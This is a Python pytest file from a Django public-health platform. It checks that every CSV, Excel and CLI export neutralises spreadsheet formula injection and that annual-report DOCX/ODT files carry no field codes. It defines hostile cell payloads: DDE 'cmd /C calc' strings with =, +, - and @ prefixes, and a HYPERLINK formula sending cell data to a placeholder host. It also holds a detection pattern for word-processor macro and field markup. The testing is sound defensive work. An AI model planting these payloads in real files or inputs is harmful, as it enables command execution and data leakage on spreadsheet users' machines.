"""Every CSV and Excel file the project offers cannot run anything (issue #13 point 1).

Hostile values are planted where a user can type or import one (a training registration,
the directory, a product label from an import, a prescriber id, a territory name, a team in
an activity campaign, an audit grid's criterion and participant, a prescriber targeted by a
visiting campaign and the name of their visitor…); then
every export of the web pages (found through the URL patterns) and of the ``cratb``
command line is downloaded or written and read back: no CSV cell starts with a formula
character unless neutralised by a leading ``'``, no workbook cell is a formula, hostile
texts are text cells with Excel's quote prefix, and numbers are numbers. Commands writing
a document (the annual report) refuse a spreadsheet's name, and a hostile section text
stays plain text in the DOCX/ODT.
"""

from __future__ import annotations

import csv
import datetime as dt
import inspect
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from pytest_django.fixtures import Settings

from cratb.accounts.models import User
from cratb.accounts.tests.factories import DepartementFactory
from cratb.activity.campaigns import open_campaign
from cratb.activity.models import ACTOR_FUNCTIONS, Kind, NetworkAction
from cratb.advice.tests.factories import AdviceRequestFactory
from cratb.audits import feedback as audit_feedback
from cratb.audits.models import AuditCampaign, AuditGrid
from cratb.cli import build_parser, main
from cratb.dashboards.tests.factories import IndicatorValueFactory, PublicationFactory
from cratb.engine.sources import import_file
from cratb.engine.tabular import FORMULA_START, is_hostile
from cratb.engine.tests.indicators import golden
from cratb.engine.tests.indicators.test_resistance import _csv as isolates_csv
from cratb.network.models import Organization, Territory
from cratb.network.tests.factories import EstablishmentFactory, PractitionerFactory, RoleFactory
from cratb.outreach.models import Campaign as VisitingCampaign
from cratb.outreach.models import Target
from cratb.training.tests.factories import SessionFactory

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://x"&A1,"x")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (CALC, LINK, PLUS, AT, MINUS)


# --- reading files back --------------------------------------------------------------------


@dataclass
class Found:
    texts: list[str]
    numbers: int


def read_csv(body: bytes, *, delimiter: str) -> Found:
    text = body.decode("utf-8-sig")
    texts: list[str] = []
    numbers = 0
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell.startswith(FORMULA_START):
                # Only a plain number may start so (« -5 », « -1,5 »).
                assert not is_hostile(cell), f"cellule CSV exécutable : {cell!r}"
            texts.append(cell)
            numbers += _is_number(cell)
    return Found(texts, numbers)


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ".") if "," in cell and "." not in cell else cell)
    except ValueError:
        return False
    return True


def read_xlsx(body: bytes) -> Found:
    book = load_workbook(io.BytesIO(body))
    texts: list[str] = []
    numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formule dans {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    if is_hostile(cell.value):
                        assert cell.quotePrefix, f"{cell.coordinate} sans préfixe « ' »"
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    numbers += 1
    return Found(texts, numbers)


def read(body: bytes, fmt: str, *, delimiter: str = ";") -> Found:
    return read_xlsx(body) if fmt == "xlsx" else read_csv(body, delimiter=delimiter)


def planted(found: Found, fmt: str, value: str) -> bool:
    """The hostile ``value`` is in the file, neutralised as the format wants (the readers
    above have checked every cell: a CSV cell starting with it carries a leading ``'``, a
    workbook cell holding it is a text with the quote prefix)."""
    if fmt == "csv" and not any(text == "'" + value for text in found.texts):
        return any(value in text and not is_hostile(text) for text in found.texts)
    return any(value in text for text in found.texts)


# --- the data ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The golden data set, plus a product whose label and a prescriber whose id are
    hostile, plus isolates for the antibiogram."""
    folder = tmp_path_factory.mktemp("hostile")
    path = golden.build(folder)
    extra = {
        "products": (
            "cip13,label,atc,route,units_per_box,amount_per_unit,amount_unit,ddd_per_box\n"
            f'EVIL1,"{LINK.replace(chr(34), chr(34) * 2)}",J01CA04,O,12,500,mg,\n'
        ),
        "dispensations": (
            f"{golden.HEADER}\n"
            f"X01,2024-05-10,RXX,P99,30,F,75,{CALC.replace(',', '')},general_practice,EVIL1,3,"
            "community\n"
        ),
        "isolates": isolates_csv(),
        # Aggregated dispensing (Open Medic), for the national comparison's exports.
        "aggregated_dispensations": (
            "year,region,age_band,sex,prescriber_specialty,cip13,atc,boxes\n"
            "2024,11,0-19,F,general_practice,EVIL1,J01CA04,5\n"
        ),
    }
    for kind, text in extra.items():
        file = folder / f"extra-{kind}.csv"
        file.write_text(text)
        report = import_file(kind, file, warehouse=path)
        assert report.rejected == 0, report.rejections
    return path


@pytest.fixture
def hostile_platform(
    client: Client,
    coordinator: User,
    region: Territory,
    departement: Territory,
    settings: Settings,
    warehouse: Path,
) -> None:
    """Hostile values wherever a person types them on the platform."""
    settings.CRATB_WAREHOUSE = warehouse
    hostile_departement = DepartementFactory.create(code="94", name=PLUS, parent=region)
    # A visitor registers for a training session through the public form.
    session = SessionFactory.create(published=True, departement=departement)
    response = client.post(
        f"/formation/agenda/{session.pk}/",
        {
            "first_name": CALC,
            "last_name": LINK,
            "email": "visiteur@exemple.fr",
            "profession": "physician",
            "organization_name": AT,
            "departement": hostile_departement.pk,
            "consent": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    # The directory: an organisation, a person, a role, a nursing home without agreement.
    home = EstablishmentFactory.create(
        name=LINK, kind=Organization.Kind.NURSING_HOME, departement=departement
    )
    person = PractitionerFactory.create(last_name=CALC, first_name=MINUS)
    RoleFactory.create(practitioner=person, organization=home)
    # Published values with a hostile dimension (a prescriber id from an import).
    publication = PublicationFactory.create()
    IndicatorValueFactory.create(
        publication=publication,
        indicator="community.prescriber_profile",
        grouping="prescriber_id",
        dimensions={"prescriber_id": CALC},
        individual=True,
        value=-12.5,
    )
    # Advice requests received in a département with a hostile name.
    received = dt.datetime(2024, 3, 4, 10, tzinfo=dt.UTC)
    AdviceRequestFactory.create(departement=hostile_departement, received_at=received)
    _plant_activity_and_audits(coordinator, hostile_departement)
    _plant_outreach(client, coordinator)


#: The year of the activity campaign and of the network actions planted below.
ACTIVITY_YEAR = dt.date.today().year


def _plant_activity_and_audits(coordinator: User, hostile_departement: Territory) -> None:
    """The activity and audit apps: a team's name in an activity report campaign (its
    follow-up and the EMA synthesis by département), a network action in a département
    with a hostile name, and an audit whose grid criterion (a label the coordination types
    in the grid's YAML) and whose participating practice carry hostile texts."""
    team = EstablishmentFactory.create(name=AT, departement=hostile_departement)
    open_campaign(
        year=ACTIVITY_YEAR,
        kind=Kind.REPORT,
        opens_on=dt.date(ACTIVITY_YEAR, 1, 5),
        deadline=dt.date(2099, 3, 31),
        teams=[team],
        by=coordinator,
    )
    NetworkAction.objects.create(
        actor_function=ACTOR_FUNCTIONS[0].value,
        kind=NetworkAction.ActionKind.MEETING,
        date=dt.date(ACTIVITY_YEAR, 1, 1),
        territory=hostile_departement,
        audience=NetworkAction.Audience.GPS,
        people_reached=12,
        title=CALC,
        notes=LINK,
        recorded_by=coordinator,
    )
    grid_files = Path(audit_feedback.__file__).parent / "grid_files"
    grid = yaml.safe_load((grid_files / "cystite-ville.yaml").read_text(encoding="utf-8"))
    expected = next(field for field in grid["fields"] if "expected" in field)
    expected["label"] = CALC
    version = AuditGrid.save_version(yaml.safe_dump(grid, allow_unicode=True))
    practice = Organization.objects.create(name=MINUS, kind=Organization.Kind.OTHER)
    AuditCampaign.launch(
        title=LINK,
        grid_version=version,
        period_start=dt.date(2025, 3, 1),
        period_end=dt.date(2025, 4, 30),
        organizations=[practice],
        practitioners=[],
        user=coordinator,
    )


def _plant_outreach(client: Client, coordinator: User) -> None:
    """A visiting campaign among the big prescribers: a target whose identifier comes from
    the dispensing import (the hostile prescriber id of the warehouse above), and its visit
    entered through the visit form with a hostile visitor's name."""
    campaign = VisitingCampaign.objects.create(
        title=LINK,
        reference_year=2024,
        rule=VisitingCampaign.Rule.LARGEST_EXCESS,
        top_n=1,
        start_date=dt.date(2025, 1, 6),
        created_by=coordinator,
    )
    Target.objects.create(
        campaign=campaign,
        prescriber_id=CALC,
        specialty="general_practice",
        prescriptions=7,
        share=42.5,
        peer_share=20.0,
        limit_998_high=38.2,
        excess_lines=-1.5,
    )
    client.force_login(coordinator)
    response = client.post(
        reverse("outreach:visit", args=[campaign.pk]),
        {
            "prescriber_id": CALC,
            "visitor_kind": "delegate",
            "visitor_name": LINK,
            "visit_date": "2025-02-03",
            "outcome": "done",
            "notes": MINUS,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    client.logout()


# --- the web pages -------------------------------------------------------------------------

#: Every export of the pages: url name → (query, values planted in it). The names of
#: exports without any number column are in TEXT_ONLY.
WEB_EXPORTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "training:session-manage": ({}, (CALC, LINK, AT)),
    "training:figures": ({}, ()),
    "network:export organizations": ({"kind": "organizations"}, (LINK,)),
    "network:export practitioners": ({"kind": "practitioners"}, (CALC, MINUS)),
    # Roles hold codes, dates and numbers only: nothing typed freely to plant.
    "network:export roles": ({"kind": "roles"}, ()),
    "network:gaps-export": ({}, (LINK,)),
    "dashboards:indicator-values": ({}, (CALC,)),
    "dashboards:indicator-detail": ({}, (CALC,)),
    "dashboards:ddd-report": ({}, (LINK,)),
    "dashboards:national": ({"year": "2024"}, ()),
    "advice:figures-csv": ({"annee": "2024", "par": "territory"}, (PLUS,)),
    "advice:figures-xlsx": ({"annee": "2024", "par": "territory"}, (PLUS,)),
    "activity:campaign": ({}, (AT,)),
    "activity:synthesis": ({"annee": str(ACTIVITY_YEAR)}, (PLUS,)),
    "activity:network-summary": ({"annee": str(ACTIVITY_YEAR)}, (PLUS,)),
    "audits:export": ({}, (CALC, MINUS)),
    "outreach:export": ({}, (CALC, LINK)),
    "resistance:antibiogram": (
        {"setting": "community", "date_from": "2024-01-01", "date_to": "2024-12-31"},
        (),
    ),
}
TEXT_ONLY = {
    "training:session-manage",
    "training:figures",
    "network:export practitioners",
    # A campaign's follow-up: team, département code, state, dates, « oui »/« non ».
    "activity:campaign",
}
#: Calls that make a file in a view: a view calling one of them must be walked above.
EXPORT_CALLS = re.compile(r"(?<![\w.])(table_response|sheets_response|_download|to_xlsx|to_csv)\(")


def _patterns(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    for item in resolver.url_patterns:
        if isinstance(item, URLResolver):
            namespace = f"{prefix}{item.namespace}:" if item.namespace else prefix
            yield from _patterns(item, namespace)
        elif item.name:
            yield f"{prefix}{item.name}", item


def test_every_view_that_makes_a_file_is_walked() -> None:
    makers = set()
    for name, pattern in _patterns(get_resolver()):
        callback: Any = pattern.callback
        if hasattr(callback, "view_class"):
            continue
        try:
            source = inspect.getsource(callback)
        except (OSError, TypeError):
            continue
        if EXPORT_CALLS.search(source):
            makers.add(name)
    walked = {key.split(" ")[0] for key in WEB_EXPORTS}
    assert makers, "aucune vue d'export trouvée : la recherche est cassée"
    assert makers <= walked, f"exports non vérifiés : {sorted(makers - walked)}"


def _url(key: str) -> str:
    name = key.split(" ")[0]
    if name == "training:session-manage":
        from cratb.training.models import TrainingSession

        return reverse(name, args=[TrainingSession.objects.get().pk])
    if name == "activity:campaign":
        from cratb.activity.models import Campaign

        return reverse(name, args=[Campaign.objects.get().pk])
    if name == "audits:export":
        return reverse(name, args=[AuditCampaign.objects.get().pk])
    if name == "outreach:export":
        return reverse(name, args=[VisitingCampaign.objects.get().pk])
    if name == "dashboards:indicator-detail":
        return reverse(name, args=["community.prescriber_profile"])
    return reverse(name)


@pytest.mark.usefixtures("hostile_platform")
@pytest.mark.parametrize("key", sorted(WEB_EXPORTS))
def test_web_exports_cannot_run_anything(client: Client, coordinator: User, key: str) -> None:
    query, values = WEB_EXPORTS[key]
    client.force_login(coordinator)
    name = key.split(" ")[0]
    formats = {"advice:figures-csv": ["csv"], "advice:figures-xlsx": ["xlsx"]}.get(
        name, ["csv", "xlsx"]
    )
    for fmt in formats:
        params = dict(query)
        if not name.startswith("advice:figures"):
            params["format"] = fmt
        response = client.get(_url(key), params)
        assert response.status_code == 200, (key, fmt)
        assert response["Content-Disposition"].endswith(f'.{fmt}"'), (key, fmt)
        body = b"".join(response) if response.streaming else response.content
        if fmt == "csv":
            assert body.startswith(b"\xef\xbb\xbf"), "CSV français : UTF-8 avec BOM"
        found = read(body, fmt)
        assert found.numbers > 0 or key in TEXT_ONLY, f"{key} : aucun nombre"
        for value in values:
            assert planted(found, fmt, value), f"{key} {fmt} : {value!r} absent"


# --- the command line ----------------------------------------------------------------------

#: Every command writing a CSV or a workbook: (arguments, format, values planted).
COMMANDS: dict[str, tuple[list[str], tuple[str, ...]]] = {
    "indicators compute": (
        ["indicators", "compute", "community.did", "--by", "year,prescriber_id"],
        (CALC.replace(",", ""),),
    ),
    "ddd report": (["ddd", "report"], (LINK,)),
    "antibiogram": (
        ["antibiogram", "--setting", "community", "--from", "2024-01-01", "--to", "2024-12-31"],
        (),
    ),
}


def _commands_with_files() -> set[str]:
    """The command paths of ``cratb`` with a ``--out`` file or a CSV output."""
    import argparse

    found = set()

    def walk(parser: argparse.ArgumentParser, path: tuple[str, ...]) -> None:
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for name, sub in action.choices.items():
                    walk(sub, (*path, name))
            elif "--out" in action.option_strings or (
                "--format" in action.option_strings and "csv" in (action.choices or ())
            ):
                found.add(" ".join(path))
        if path and path[-1] == "export":
            found.add(" ".join(path))

    walk(build_parser(), ())
    return found


#: Commands with a ``--out`` file that is a document to read (PDF, DOCX, ODT), never a
#: spreadsheet: their arguments, for a run asking for a table (refused below). Their
#: typed texts are checked as plain text in the document (no field code, no formula).
DOCUMENT_COMMANDS: dict[str, list[str]] = {
    "report annual": ["report", "annual", "--year", "2025"],
}


def test_every_command_that_writes_a_table_is_walked() -> None:
    walked = {*COMMANDS, "ast target", "indicators list", "lab-codes export"}
    found = _commands_with_files()
    assert set(DOCUMENT_COMMANDS) <= found, "commande de document disparue : liste à revoir"
    # The demo writes the input files it then imports, not an export of platform data.
    assert found - {"demo"} - set(DOCUMENT_COMMANDS) <= walked


@pytest.mark.parametrize("command", sorted(DOCUMENT_COMMANDS))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".ods", ".tsv"])
def test_document_commands_write_no_table(
    command: str, suffix: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A document command refuses a spreadsheet's name: it has no table writer to skip
    the neutralisation with."""
    out = tmp_path / f"out{suffix}"
    assert main([*DOCUMENT_COMMANDS[command], "--out", str(out)]) == 2
    assert "Format de fichier non pris en charge" in capsys.readouterr().err
    assert not out.exists()


#: What would make a word processor compute or run a text: field codes (DOCX) and
#: fields, formulas or scripts (ODT).
DOCUMENT_CODE = re.compile(
    r"<w:fldSimple|<w:instrText|<w:fldChar|<w:ddeLink|table:formula|office:formula|"
    r"<text:(?:user-field|expression|text-input|execute-macro|script)|<office:script"
)


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".docx", ".odt"])
def test_a_hostile_report_text_is_plain_text_in_the_document(
    coordinator: User, suffix: str, tmp_path: Path
) -> None:
    import zipfile

    from cratb.reports.models import AnnualReport

    report = AnnualReport.objects.create(year=2025)
    report.save_text("advice", "\n\n".join(HOSTILE), author=coordinator, base_version=0)
    out = tmp_path / f"rapport{suffix}"
    assert main([*DOCUMENT_COMMANDS["report annual"], "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as archive:
        xml = "\n".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.endswith(".xml")
        )
    assert not DOCUMENT_CODE.search(xml), DOCUMENT_CODE.search(xml)
    for value in HOSTILE:
        escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert escaped.replace('"', "&quot;") in xml or escaped in xml, f"{value!r} absent"


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_command_files_cannot_run_anything(
    command: str, suffix: str, warehouse: Path, tmp_path: Path
) -> None:
    arguments, values = COMMANDS[command]
    out = tmp_path / f"out{suffix}"
    assert main([*arguments, "--warehouse", str(warehouse), "--out", str(out)]) == 0
    fmt = suffix.lstrip(".")
    found = read(out.read_bytes(), fmt, delimiter=",")
    assert found.numbers > 0
    if fmt == "csv":
        assert not out.read_bytes().startswith(b"\xef\xbb\xbf"), "CSV du contrat : sans BOM"
    for value in values:
        assert planted(found, fmt, value), f"{command} {fmt} : {value!r} absent"


def test_indicator_list_as_csv_cannot_run_anything(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["indicators", "list", "--format", "csv"]) == 0
    read(capsys.readouterr().out.encode(), "csv", delimiter=",")


def test_targeted_reporting_output_cannot_run_anything(tmp_path: Path) -> None:
    source = tmp_path / "isolates.csv"
    source.write_text(
        "isolate_id,patient_id,sampled_on,specimen,setting,departement,lab_id,organism,"
        "antibiotic,sir,patient_age,patient_sex\n"
        f'"{LINK.replace(chr(34), chr(34) * 2)}",P1,2025-01-10,urine,community,75,L1,'
        "Escherichia coli,AMX,R,40,F\n"
    )
    out = tmp_path / "out.csv"
    assert main(["ast", "target", str(source), "--out", str(out), "--no-log"]) == 0
    found = read(out.read_bytes(), "csv", delimiter=",")
    assert planted(found, "csv", LINK)
    assert "40" in found.texts  # the age is still a plain number


def test_lab_codes_export_cannot_run_anything(
    warehouse: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from cratb.engine.sources import lab_codes

    try:
        lab_codes.save(
            tmp_path / "codes.duckdb",
            [{"lab_id": CALC.replace(",", ""), "lab_code": "AMOX", "whonet": "AMX"}],
            changed_by="test",
        )
    except lab_codes.LabCodeError:
        pytest.skip("the code table refuses such a lab id: nothing hostile to export")
    assert main(["lab-codes", "export", "--warehouse", str(tmp_path / "codes.duckdb")]) == 0
    found = read(capsys.readouterr().out.encode(), "csv", delimiter=",")
    assert planted(found, "csv", CALC.replace(",", ""))
